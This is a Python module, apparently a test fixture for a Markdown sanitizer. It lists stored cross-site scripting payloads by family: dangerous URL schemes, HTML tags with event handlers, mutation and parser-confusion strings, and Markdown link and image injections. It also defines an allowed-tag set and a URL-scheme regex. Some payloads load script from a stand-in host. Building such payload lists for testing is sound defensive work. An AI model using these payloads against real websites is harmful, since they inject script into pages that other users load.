"""Payloads of stored cross-site scripting by family, and the markup that may be rendered."""

import re

# ruff: noqa: E501 - payloads are not wrapped

MARKDOWN_TAGS = set(
    "p br hr h2 h3 h4 ul ol li strong em code pre blockquote a img "
    "table thead tbody tr th td".split()
)
"""Elements that rendered Markdown may contain."""

URL_SCHEME = re.compile(r"[\x00-\x20]*([A-Za-z][A-Za-z0-9+.\-]*)[\t\r\n]*:")
"""Scheme of a URL as browsers parse it, after leading control characters."""

_TARGETS = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)",
    "java\nscript:alert(1)", "javascript&colon;alert(1)", "javascript&#58;alert(1)",
    "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)", "javascript\u00a0:alert(1)",
    "\x01javascript:alert(1)", "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "livescript:alert(1)",
    "javascript://example.org/%0aalert(1)", "view-source:javascript:alert(1)", "file:///etc/passwd",
    "javascript:/*--></title></style><svg/onload=alert(1)>", "feed:javascript:alert(1)",
]  # fmt: skip

_ELEMENTS = [
    "<script>alert(1)</script>", "<SCRIPT SRC=//x.example/a.js></SCRIPT>", "<script/x>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script\n>alert(1)</script\n>", "<script>alert(1)",
    "<<script>alert(1);//<</script>", "<img src=x onerror=alert(1)>", "<img src=x onerror='alert(1)'//>",
    "<img/src=x/onerror=alert(1)>", "<IMG SRC=javascript:alert(1)>", "<img src=`x` onerror=alert(1)>",
    "<img src=x:x onerror\n=alert(1)>", "<img \"\"\"><script>alert(1)</script>\">",
    "<svg onload=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><set onbegin=alert(1)>",
    "<svg><use href=data:image/svg+xml,x#a></svg>", "<math href=javascript:alert(1)>x</math>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>", "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>",
    "<iframe onload=alert(1)>", "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>",
    "<object data=data:text/html,<script>alert(1)</script>>", "<applet code=x>", "<base href=//x.example/>",
    "<link rel=stylesheet href=//x.example/a.css>", "<meta http-equiv=refresh content='0;javascript:alert(1)'>",
    "<style>@import '//x.example/a.css';</style>", "<style>*{background:url(javascript:alert(1))}</style>",
    "<div style='width:expression(alert(1))'>x</div>", "<div style=background:url(//x.example)>x</div>",
    "<form action=javascript:alert(1)><input type=submit>", "<button formaction=javascript:alert(1)>x</button>",
    "<input onfocus=alert(1) autofocus>", "<select onfocus=alert(1) autofocus>", "<textarea onfocus=alert(1) autofocus>",
    "<keygen onfocus=alert(1) autofocus>", "<video src=x onerror=alert(1)>", "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>", "<details open ontoggle=alert(1)>", "<marquee onstart=alert(1)>x</marquee>",
    "<isindex action=javascript:alert(1) type=image>", "<a href=javascript:alert(1)>x</a>",
    "<a href='x' onclick=alert(1)>x</a>", "<a onmouseover=alert(1)>x</a>", "<p onclick=alert(1)>x</p>",
    "<table background=javascript:alert(1)><td>x</table>", "<td onclick=alert(1)>x</td>",
    "<bgsound src=javascript:alert(1)>", "<frameset onload=alert(1)>", "<layer src=//x.example>",
    "<xss style=behavior:url(x.htc)>", "<x onclick=alert(1)>x</x>", "<x contenteditable onblur=alert(1)>x",
    "<template><script>alert(1)</script></template>", "<portal src=javascript:alert(1)>",
    "<dialog open onclose=alert(1)>", "<input type=image src=x onerror=alert(1)>", "<br onload=alert(1)>",
    "<hr onclick=alert(1)>", "<ul onclick=alert(1)><li>x</ul>", "<code onclick=alert(1)>x</code>",
    "<blockquote onclick=alert(1) cite=javascript:alert(1)>x</blockquote>", "<h2 onclick=alert(1)>x</h2>",
    "<a href=\"https://example.org\" ping=//x.example>x</a>", "<a target=_blank href=//x.example onauxclick=alert(1)>x</a>",
]  # fmt: skip

_MUTATIONS = [
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'>", "<title><img title='</title><img src=x onerror=alert(1)>'>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>", "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->", "<!-- --!><img src=x onerror=alert(1)>", "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><img src=x onerror=alert(1)>", "<!DOCTYPE x [<!ENTITY x 'y'>]><img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;img src=x onerror=alert(1)&amp;gt;", "&#60;img src=x onerror=alert(1)&#62;",
    "\u202e<img src=x onerror=alert(1)>", "<\u200bscript>alert(1)</script>", "＜script＞alert(1)＜/script＞", "<p/title=</p><img src=x onerror=alert(1)>",
]  # fmt: skip

_MARKDOWN = [
    *(f"[x]({target})" for target in _TARGETS),
    *(f"[x](<{target}>)" for target in _TARGETS[:8]),
    *(f"<{target}>" for target in _TARGETS[:4]),
    *(f"[x]\n\n[x]: {target}" for target in _TARGETS[:6]),
    '[x](https://example.org "a\\" onmouseover=\\"alert(1)")', "[x](https://example.org 'a\" onclick=\"alert(1)')",
    '[x](https://example.org" onclick="alert(1))',
    "[<img src=x onerror=alert(1)>](https://example.org)", "[[x](javascript:alert(1))](https://example.org)",
    "```x\" onclick=\"alert(1)\ncode\n```", "```<img src=x onerror=alert(1)>\n```", "`<img src=x onerror=alert(1)>`",
    "# <script>alert(1)</script>", "> <img src=x onerror=alert(1)>", "- <svg onload=alert(1)>", "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "<https://example.org\" onclick=\"alert(1)>", "[x](https://example.org/\\\"onclick=alert(1))", "<a@b.example\" onclick=alert(1)>",
]  # fmt: skip

IMAGES = [
    *(f"![x]({target})" for target in _TARGETS), *(f"![x](<{target}>)" for target in _TARGETS),
    "![x\" onerror=\"alert(1)](y)", "![x](y \"a\\\" onerror=\\\"alert(1)\")",
]  # fmt: skip
"""Images elsewhere, which a text must not have."""

PICTURES = [
    "![x\" onerror=\"alert(1)](media:x)", "![x](media:x \"a\\\" onerror=\\\"alert(1)\")",
    "![<img src=x onerror=alert(1)>](media:x)", "![\"><script>alert(1)</script>](media:x)",
]  # fmt: skip
"""Pictures of the library with payloads in their descriptions."""

PAYLOADS = [*_ELEMENTS, *_MUTATIONS, *_MARKDOWN, *(f'"><a href="{t}">x</a>' for t in _TARGETS)]
